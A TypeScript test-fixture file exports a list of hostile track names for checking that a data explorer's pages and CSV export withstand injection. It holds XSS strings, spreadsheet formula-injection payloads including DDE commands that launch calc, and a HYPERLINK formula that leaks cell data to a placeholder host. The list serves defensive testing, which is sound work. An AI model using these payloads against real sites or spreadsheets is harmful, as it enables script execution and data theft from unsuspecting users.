/**
 * Track names an attacker could put in a data file: HTML/script breakers for the pages, and formula leads for
 * the spreadsheet a reader opens the explorer's CSV download in (OWASP's list: = + - @ tab CR LF, plus leads
 * hidden behind spaces or quotes, and ones that start a new cell after a separator inside the name).
 */
export const HOSTILE_NAMES: readonly string[] = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror="window.__xss=1">',
  '"--></script><b>bold</b>',
  '=HYPERLINK("http://x.invalid/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '"=1+1"',
  '＝1+1',
  'Innocent; =1+1',
  'Innocent,=1+1',
  'Innocent\t@SUM(1)',
  '-1',
];
